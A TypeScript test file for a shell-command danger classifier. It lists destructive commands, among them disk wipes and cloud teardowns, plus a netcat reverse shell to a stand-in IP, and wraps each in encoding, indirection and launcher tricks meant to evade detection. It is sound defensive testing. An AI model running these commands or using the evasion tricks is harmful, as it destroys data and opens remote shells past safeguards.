import { describe, expect, test } from 'vitest';
import { outside } from './support/crossing.ts';

/** Plain commands, each with an effect of another kind. Words have no quotes, so that every frame can take them. */
const effects: readonly string[] = [
  'rm -rf /',
  'rm -rf /home/anna',
  'find /etc -delete',
  'mv /var /tmp/old',
  'shred /dev/sda',
  'dd if=/dev/zero of=/dev/sda',
  'mkfs.ext4 /dev/sda1',
  'wipefs -a /dev/sda',
  'blkdiscard /dev/nvme0n1',
  'cp image.iso /dev/sdb',
  'chmod -R 777 /',
  'chown -R nobody /etc',
  'truncate -s 0 /etc/passwd',
  'dropdb production',
  'redis-cli FLUSHALL',
  'kubectl delete ns prod',
  'docker volume prune -af',
  'terraform destroy -auto-approve',
  'aws s3 rb s3://backups --force',
  'git push --mirror backup',
  'gh repo delete acme/app --yes',
  'zpool destroy tank',
  'lvremove -f /dev/vg/root',
  'userdel -r root',
  'history -c',
  'journalctl --vacuum-time=1s',
  'kill -9 -1',
  'borg delete /backup/repo',
  'apt-get purge libc6',
  'nc -e /bin/sh 203.0.113.9 443',
];

/** What one does every day, and what may be run in any of the frames. */
const everyday: readonly string[] = ['rm -rf build', 'npm test', 'ls -la /etc', 'git status', 'docker ps -a'];

const codesOf = (text: string): readonly number[] => Array.from(text, (character) => character.charCodeAt(0));
const escaped = (text: string, radix: number, prefix: string): string =>
  codesOf(text)
    .map((code) => prefix + code.toString(radix).padStart(radix === 8 ? 3 : 2, '0'))
    .join('');

/** The frame with the command in the place of its names: whole, by its words, cut in two, or encoded. */
function framed(frame: string, command: string): string {
  const words = command.split(' ');
  const program = words[0] ?? '';
  const half = Math.ceil(program.length / 2);
  const pieces: Readonly<Record<string, () => string>> = {
    CMD: () => command,
    PROG: () => program,
    ARGS: () => words.slice(1).join(' '),
    HEAD: () => words.slice(0, -1).join(' '),
    LAST: () => words.at(-1) ?? '',
    HALF: () => program.slice(0, half),
    REST: () => program.slice(half),
    LENGTH: () => String(program.length),
    COMMAS: () => words.join(','),
    LIST: () => words.map((word) => `"${word}"`).join(', '),
    QUOTED: () => words.map((word) => `'${word}'`).join(' '),
    SPLIT: () => words.map((word) => `${word.slice(0, 1)}''${word.slice(1)}`).join(' '),
    OCTAL: () => escaped(program, 8, '\\'),
    HEX: () => escaped(program, 16, '\\x'),
    DIGITS: () => escaped(command, 16, ''),
    CODES: () => codesOf(command).join(','),
    BASE64: () => Buffer.from(command).toString('base64'),
  };
  return frame.replaceAll(/\b[A-Z]{3,9}(?:64)?\b/g, (name) => pieces[name]?.() ?? name);
}

/** A row a line; `§` stands for the dollar that a template would take. */
const rows = (text: string): readonly string[] =>
  text
    .replaceAll('§', '$')
    .split('\n')
    .filter((row) => row !== '');

const spellings = rows(String.raw`
QUOTED
SPLIT
\CMD
/usr/bin/CMD
$(which PROG) ARGS
"$(command -v PROG)" ARGS
$'HEX' ARGS
$'OCTAL' ARGS
$(printf 'OCTAL') ARGS
$(echo -e 'HEX') ARGS
$(printf %b 'HEX') ARGS
$(echo PROG) ARGS
x='CMD'; $x
p=PROG; $p ARGS
a='HALF' b='REST'; $a$b ARGS
a=(CMD); "§{a[@]}"
a=(x y PROG); §{a[-1]} ARGS
a=(ARGS); PROG "§{a[@]}"
a[0]=PROG; §{a[0]} ARGS
declare -A m; m[k]=PROG; k=k; §{m[$k]} ARGS
x=--PROG; §{x:2} ARGS
x=--PROG--; §{x:2:LENGTH} ARGS
x='HALF@REST'; §{x/@/} ARGS
x=zz-PROG; §{x#zz-} ARGS
§{none:-PROG} ARGS
p=PROG; q=p; §{!q} ARGS
p=PROG; declare -n q=p; $q ARGS
printf -v x '%s' 'CMD'; $x
printf -v p '%s%s' HALF REST; $p ARGS
IFS=, read -ra a <<< 'COMMAS'; "§{a[@]}"
read -ra a <<< 'CMD'; "§{a[@]}"
read -r p r <<< 'CMD'; $p $r
set -- CMD; "$@"
set -- x CMD; shift; "$@"
f() { "$@"; }; f CMD
f() { local p=$1; shift; $p "$@"; }; f CMD
HEAD "$(echo LAST)"
t=LAST; HEAD "$t"
for t in x LAST; do HEAD "$t"; done
l=(x LAST); for t in "§{l[@]}"; do HEAD "$t"; done
echo 'LAST' > l; HEAD $(cat l)
read -r t <<< 'LAST'; HEAD "$t"
printf '%s\n' x 'LAST' y | while IFS= read -r t; do HEAD "$t"; done
`);

const places = rows(String.raw`
sudo -nu root CMD
sudo -iu root CMD
doas -u root CMD
run0 --user=root CMD
env -i A=1 CMD
env - CMD
env -C /tmp CMD
nice -n 5 CMD
timeout -k 5 10 CMD
stdbuf -oL CMD
setsid -f CMD
systemd-run --scope CMD
systemd-cat -t x CMD
prlimit --nofile=9 CMD
choom -n 9 -- CMD
faketime yesterday CMD
caffeinate -i CMD
unshare -r CMD
nsenter -t 1 -m -- CMD
bwrap --dev-bind / / CMD
chpst -u root CMD
envdir ./env CMD
softlimit -m 1 CMD
dtach -n s CMD
abduco -n s CMD
ssh -p22 h CMD
tailscale ssh h CMD
tsh ssh u@h CMD
docker exec -itu 0 c CMD
docker compose exec -T db CMD
kubectl exec -n x p -- CMD
kubectl exec p CMD
oc rsh p CMD
nomad alloc exec x CMD
machinectl shell c CMD
multipass exec x -- CMD
limactl shell x CMD
wsl -d x -- CMD
arch-chroot /mnt CMD
schroot -c x -- CMD
chroot /mnt <<< 'CMD'
fly ssh console -C 'CMD'
heroku run -- CMD
gcloud compute ssh x -- CMD
direnv exec . CMD
aws-vault exec x -- CMD
dotenv -e .env -- CMD
dotenv CMD
mise x -- CMD
rvm default do CMD
nvm exec 20 CMD
repo forall -c 'CMD'
xdotool exec CMD
zellij run -- CMD
kitty CMD
script -q /dev/null CMD
tmux new -d 'CMD'
tmux new-session -d CMD
tmux send-keys -t 0 'CMD' Enter
tmux if-shell true "run-shell 'CMD'"
tmux bind x run-shell 'CMD'
screen -X stuff 'CMD\n'
wezterm cli send-text --no-paste 'CMD\n'
xdotool type 'CMD\n'
split --filter='CMD' f
sort --compress-program='CMD' f
find . -maxdepth 0 -exec CMD \;
echo LAST | xargs HEAD
xargs --arg-file=<(echo LAST) HEAD
parallel HEAD :::: <(echo LAST)
echo 'CMD' | xargs -0 sh -c
echo 'CMD' | xargs -I{} sh -c '{}'
exec 3<<< 'CMD'; bash <&3
echo 'CMD' | . /dev/stdin
source <(echo 'CMD')
echo 'CMD' > >(bash)
echo 'CMD' | tee >(sh)
echo 'CMD' | bash -c "$(cat)"
install -m 755 /dev/stdin x <<< 'CMD'; ./x
echo 'CMD' > a; mv a b; sh b
echo 'CMD' | column -t | sh
trap 'CMD' EXIT
make --eval='$(shell CMD)'
`);

const codes = rows(String.raw`
python3 -c 'import os; os.system(bytes([CODES]).decode())'
python3 -c 'import os; os.system(bytes.fromhex("DIGITS").decode())'
python3 -c 'print(bytes.fromhex("DIGITS").decode())' | sh
python3 -c 'import subprocess; go = lambda c: subprocess.run(c, shell=True); go("CMD")'
python3 -c 'import subprocess; subprocess.run([LIST])'
python3.14 -c 'import os; p = "PROG"; os.system(f"{p} ARGS")'
perl -e 'print pack "H*", "DIGITS"' | sh
perl -e 'open(F, "CMD |")'
perl -e 'open(my $f, "-|", "CMD")'
perl -e 'sub go { system(@_) } go("CMD")'
ruby -e 'system([CODES].pack("c*"))'
ruby -e 'system([CODES].map(&:chr).join)'
ruby -e 'c = "PROG "; c << "ARGS"; system(c)'
ruby -e 'def go(c) system(c) end; go("CMD")'
node -e 'require("child_process").exec([CODES].map((c) => String.fromCharCode(c)).join(""))'
node -e 'console.log(Buffer.from("BASE64", "base64").toString())' | sh
node -e 'function go(c) { require("child_process").execSync(c) } go("CMD")'
php -r 'function go($c) { system($c); } go("CMD");'
lua -e 'function go(c) os.execute(c) end go("CMD")'
nvim -l <(echo 'os.execute("CMD")')
awk 'function go(c) { system(c) } BEGIN { go("CMD") }'
echo 'CMD' | awk '{ system($0) }'
C='CMD' awk 'BEGIN { system(ENVIRON["C"]) }'
ocaml -e 'Sys.command "CMD"'
zx --eval 'await $BACKTICKCMDBACKTICK'
echo BASE64 | base64 -d | sh
`).map((row) => row.replaceAll('BACKTICK', '`'));

const crossing = (frames: readonly string[], commands: readonly string[]): readonly string[] =>
  frames.flatMap((frame) => commands.map((command) => framed(frame, command)));

describe('evasions', () => {
  test('every effect is critical as it stands', () => {
    expect(outside(effects, 'critical', 'critical')).toEqual([]);
  });

  test.each([
    ['spelt', spellings],
    ['started', places],
    ['handed to code', codes],
  ] as const)('however it is %s', (_, frames) => {
    expect(outside(crossing(frames, effects), 'critical', 'critical')).toEqual([]);
  });

  test('what one does every day alarms nobody, wherever it is done', () => {
    // To enter the first process of a machine is a finding of its own, and so is text that a shell is handed unseen.
    const plain = [...spellings, ...places].filter((frame) => !/\| sh|nsenter -t 1/.test(frame));
    expect(outside(crossing(plain, everyday), 'safe', 'moderate')).toEqual([]);
  });

  test('what a filter, awk or xargs makes of a text is known', () => {
    const hidden = [
      "tr a-zA-Z n-za-mN-ZA-M <<< 'ez -es ~' | bash",
      "echo 'Rm -Rf ~' | tr '[:upper:]' '[:lower:]' | sh",
      "echo 'xrxm -xrf ~' | tr -d x | sh",
      "rev <<< '~ fr- mr' | bash",
      `awk 'BEGIN { system(ARGV[1]) }' 'rm -rf ~'`,
      `xargs -I{} bash -c {} <<< "'rm -rf ~'"`,
      `echo "'rm' '-rf' /" | xargs -I{} sh -c {}`,
    ];
    expect(outside(hidden, 'critical', 'critical')).toEqual([]);
    const plain = [
      "echo 'rm -rf ~' | tr a-z n-za-m",
      'docker ps -q | tr "\\n" " "',
      "awk 'BEGIN { print ARGV[1] }' 'rm -rf ~'",
      "tr -cd '0-9' < a | rev",
    ];
    expect(outside(plain, 'safe', 'safe')).toEqual([]);
  });
});
